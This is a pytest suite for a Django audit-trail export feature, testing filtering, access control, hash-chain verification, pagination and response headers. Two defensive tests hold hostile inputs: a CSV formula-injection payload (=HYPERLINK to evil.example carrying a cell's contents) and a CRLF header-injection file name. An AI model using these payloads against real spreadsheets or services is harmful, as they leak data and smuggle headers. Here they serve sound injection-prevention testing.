"""Export of the audit trail: complete, exact, bounded, and itself recorded."""

from __future__ import annotations

import csv
import io
import json
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.test import Client
from pytest_django.fixtures import Settings

from dashboard.audit import export
from dashboard.timings import AuditTimings, Timings
from people.audit.chain import digest
from people.audit.models import AuditEntry
from people.audit.record import AuditTrailUnavailable, draft_for_user, record
from people.audit.time_range import format_utc
from people.models import User
from tests.audit.conftest import RecordedActions
from tests.people.conftest import ClientFor

AUDIT_URL = "/people/audit/"
CSV, LINES = f"{AUDIT_URL}export/trail.csv", f"{AUDIT_URL}export/trail.jsonl"
OLDEST_FIRST = ("sign-in", "patch", "denied", "other", "failed", "team", "unknown", "read")
DANAS = ("sign-in", "patch", "denied", "unknown", "read")


def fetch_csv(client: Client, query: str = "") -> list[dict[str, str]]:
    answer = client.get(f"{CSV}?{query}")
    assert answer.status_code == 200
    text = answer.content.decode("utf-8-sig")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def fetch_json_lines(client: Client, query: str = "") -> list[dict[str, object]]:
    answer = client.get(f"{LINES}?{query}")
    assert answer.status_code == 200
    assert answer.content.isascii()
    return [json.loads(line) for line in answer.content.decode().splitlines()]


def list_first_hashes(actions: RecordedActions, names: tuple[str, ...]) -> list[str]:
    return [AuditEntry.objects.get(pk=actions[name]).hash for name in names]


def test_it_holds_exactly_what_the_filter_shows_oldest_first(
    client_for: ClientFor, actions: RecordedActions
) -> None:
    for read in (fetch_csv, fetch_json_lines):
        wanted = {
            "result=denied": ("denied",),
            "result=unknown": ("unknown",),
            "cluster=harbour&person=dana": ("patch", "denied", "unknown", "read"),
            "from=1h&verb=team-create": ("team",),
            "to=1h": (),
        }
        for query, names in wanted.items():
            found = read(client_for("aude"), query)
            assert [row["hash"] for row in found] == list_first_hashes(actions, names), query


def test_everybody_else_takes_their_own_alone(
    client_for: ClientFor, users: dict[str, User], actions: RecordedActions
) -> None:
    for read in (fetch_csv, fetch_json_lines):
        found = read(client_for("dana"))
        assert [row["hash"] for row in found if row["verb"] != "export"] == list_first_hashes(actions, DANAS)
        assert {row["person"] for row in found} == {"dana"}
        assert read(client_for("dana"), "person=rene") == []
        assert not any(key.endswith(("sequence", "previous")) for row in found for key in row)
    assert fetch_csv(client_for("stan")) == []
    text = client_for("dana").get(LINES).content.decode()
    others = AuditEntry.objects.exclude(person_id=users["dana"].pk).values_list("hash", flat=True)
    assert not [one for one in others if one in text]


def test_every_row_can_be_verified_from_the_file_alone(
    client_for: ClientFor, actions: RecordedActions
) -> None:
    """Each hash is that of the row's own fields, and each row stands on the one before."""
    rows = sorted(
        (row for line in fetch_json_lines(client_for("aude")) for row in line["rows"]),  # type: ignore[attr-defined]
        key=lambda row: row["sequence"],
    )
    assert (
        len(rows)
        == AuditEntry.objects.filter(
            verb__in={"sign-in", "patch", "delete", "create", "team-create", "get"}
        ).count()
    )
    before = "0" * 64
    for row in rows:
        fields = {name: value for name, value in row.items() if name != "at"}
        stored = AuditEntry.objects.get(pk=row["sequence"])
        assert format_utc(stored.at) == row["at"]
        assert digest(AuditEntry(at=stored.at, **fields)) == row["hash"]
        assert row["previous"] == before
        before = row["hash"]


def test_a_file_is_bounded_and_says_how_to_get_the_rest(
    monkeypatch: pytest.MonkeyPatch, client_for: ClientFor, actions: RecordedActions
) -> None:
    monkeypatch.setattr(export, "MAX_FILE_ACTIONS", 3)
    client, found, address = client_for("aude"), [], f"{LINES}?to=2999-01"
    for _ in range(9):
        answer = client.get(address)
        lines = answer.content.decode().splitlines()
        assert len(lines) <= 3
        found += [json.loads(line)["hash"] for line in lines]
        onward = re.fullmatch(r'<([^>]*)>; rel="next"', answer.get("Link", ""))
        if onward is None:
            break
        address = onward[1]
    assert found == list_first_hashes(
        actions, OLDEST_FIRST
    )  # what was recorded meanwhile belongs to the next export


@pytest.mark.parametrize("who", ["aude", "dana"])
def test_the_files_of_an_export_hold_all_of_it_once(
    monkeypatch: pytest.MonkeyPatch, client_for: ClientFor, actions: RecordedActions, who: str
) -> None:
    monkeypatch.setattr(export, "MAX_FILE_ACTIONS", 2)
    monkeypatch.setattr(export, "MAX_FILES", 2)
    names = OLDEST_FIRST if who == "aude" else DANAS
    client, found, query = client_for(who), [], "format=csv&from=1h"
    for _ in range(9):
        answer = client.get(f"{AUDIT_URL}export/?{query}")
        text = answer.content.decode()
        files = re.findall(rf'href="{LINES}\?([^"]*)"', text)
        assert 0 < len(files) <= 2
        for file in files:
            found += [line["hash"] for line in fetch_json_lines(client, file.replace("&amp;", "&"))]
        onward = re.search(r'href="\?([^"]*)">More files', text)
        if onward is None:
            break
        query = onward[1].replace("&amp;", "&")
    assert found == list_first_hashes(actions, names)


def test_an_audit_trail_of_millions_is_split_without_a_full_scan(
    monkeypatch: pytest.MonkeyPatch,
    settings: Settings,
    client_for: ClientFor,
    actions: RecordedActions,
) -> None:
    monkeypatch.setattr("dashboard.audit.pagination.FIRST_RANGE", 3)
    settings.TIMINGS = Timings(audit=AuditTimings(quick_range=-1.0, count=-1.0, read=-1.0))
    text = client_for("aude").get(f"{AUDIT_URL}export/?format=csv&person=dana").content.decode()
    assert "More files" in text
    answer = client_for("aude").get(f"{CSV}?person=dana")
    assert 'rel="next"' in answer["Link"]


def test_what_fits_into_one_file_is_that_file(client_for: ClientFor, actions: RecordedActions) -> None:
    answer = client_for("aude").get(f"{AUDIT_URL}export/?format=csv&result=denied")
    assert answer.status_code == 302
    assert answer["Location"].startswith(f"{CSV}?result=denied&to=20")
    assert len(fetch_csv(client_for("aude"), answer["Location"].partition("?")[2])) == 1
    assert client_for("aude").get(f"{AUDIT_URL}export/?result=denied").status_code == 200


def test_it_is_itself_on_record(
    client_for: ClientFor, users: dict[str, User], actions: RecordedActions
) -> None:
    for who, count in (("aude", 1), ("dana", 1)):
        answer = client_for(who).get(f"{CSV}?result=denied")
        row = AuditEntry.objects.last()
        assert row is not None
        assert (row.verb, row.person, row.target, row.result) == ("export", who, "trail", "ok")
        assert (row.detail["format"], row.detail["entries"]) == ("csv", count)
        assert row.detail["filter"]["result"] == "denied"
        assert set(row.detail) == {
            "format",
            "entries",
            "filter",
            "first",
            "last",
        }  # and none of the rows' numbers
        assert answer.status_code == 200
    before = AuditEntry.objects.count()
    for path in (CSV, LINES):  # it would be on record without having left
        assert client_for("aude").head(path).status_code == 405
    assert client_for("aude").get(f"{AUDIT_URL}export/").status_code == 200
    assert AuditEntry.objects.count() == before


def test_what_cannot_be_put_on_record_does_not_leave(
    monkeypatch: pytest.MonkeyPatch, client_for: ClientFor, actions: RecordedActions
) -> None:
    def full(_fact: object) -> int:
        raise AuditTrailUnavailable("disk full")

    monkeypatch.setattr("people.audit.record.record", full)
    answer = client_for("aude").get(CSV)
    assert answer.status_code == 503
    assert b"forbidden" not in answer.content
    assert client_for("aude").get(AUDIT_URL).status_code == 200


def test_only_so_many_are_made_at_once(
    settings: Settings, client_for: ClientFor, actions: RecordedActions
) -> None:
    settings.TIMINGS = Timings(audit=AuditTimings(slot=0.01))
    client = client_for("aude")
    export.EXPORT_SLOTS.acquire()
    export.EXPORT_SLOTS.acquire()
    try:
        answer = client.get(CSV)
    finally:
        export.EXPORT_SLOTS.release()
        export.EXPORT_SLOTS.release()
    assert (answer.status_code, answer["Retry-After"]) == (503, "5")
    assert client.get(CSV).status_code == 200


def test_headers_make_it_a_file_and_nothing_else(client_for: ClientFor, actions: RecordedActions) -> None:
    name = "a\r\nSet-Cookie: x=1;\u202e/../é"
    for path, kind, ending in (
        (CSV, "text/csv; charset=utf-8", "csv"),
        (LINES, "application/x-ndjson; charset=utf-8", "jsonl"),
    ):
        answer = client_for("aude").get(path, {"result": "denied", "name": name, "cluster": "harbour"})
        assert answer["Content-Type"] == kind
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert re.fullmatch(
            r'attachment; filename="quarterdeck-trail_\d{8}T\d{6}Z_[A-Za-z0-9.=_-]+\.' + ending + '"',
            answer["Content-Disposition"],
        )
        assert "result=denied" in answer["Content-Disposition"]
        assert "Set-Cookie" not in answer.headers


def test_a_wrong_address_gives_no_file(
    client_for: ClientFor, users: dict[str, User], actions: RecordedActions
) -> None:
    before = AuditEntry.objects.count()
    for path in (CSV, LINES, f"{AUDIT_URL}export/"):
        for query in ("verb=X", "after=nowhere", "through=x", "from=soon"):
            answer = client_for("aude").get(f"{path}?{query}", follow=True)
            assert answer.redirect_chain, (path, query)
            assert answer.status_code == 400
            assert b'role="alert"' in answer.content
    assert AuditEntry.objects.count() == before


def test_names_that_calculate_reach_no_spreadsheet(
    client_for: ClientFor, users: dict[str, User], actions: RecordedActions
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    record(
        draft_for_user(
            users["dana"], "get", name=evil, resource="+1", target="@SUM(1)", reason="-2+3", identity="\t=1"
        )
    )
    (row,) = fetch_csv(client_for("aude"), "verb=get&kind=&name=" + evil.replace("&", "%26"))
    assert row["name"] == f"'{evil}"
    assert (row["resource"], row["target"], row["reason"]) == ("'+1", "'@SUM(1)", "'-2+3")
    assert row["identity"] == "\\x09=1"
    (line,) = fetch_json_lines(client_for("aude"), "verb=get&name=" + evil.replace("&", "%26"))
    assert line["name"] == evil


@pytest.mark.django_db(transaction=True)
def test_files_that_are_made_at_the_same_time_are_whole(
    client_for: ClientFor, actions: RecordedActions
) -> None:
    clients = [client_for("aude") for _ in range(4)]
    with ThreadPoolExecutor(4) as pool:
        found = list(
            pool.map(lambda client: fetch_json_lines(client, "person=dana&cluster=harbour"), clients)
        )
    assert [[line["hash"] for line in one] for one in found] == [
        list_first_hashes(actions, ("patch", "denied", "unknown", "read"))
    ] * 4
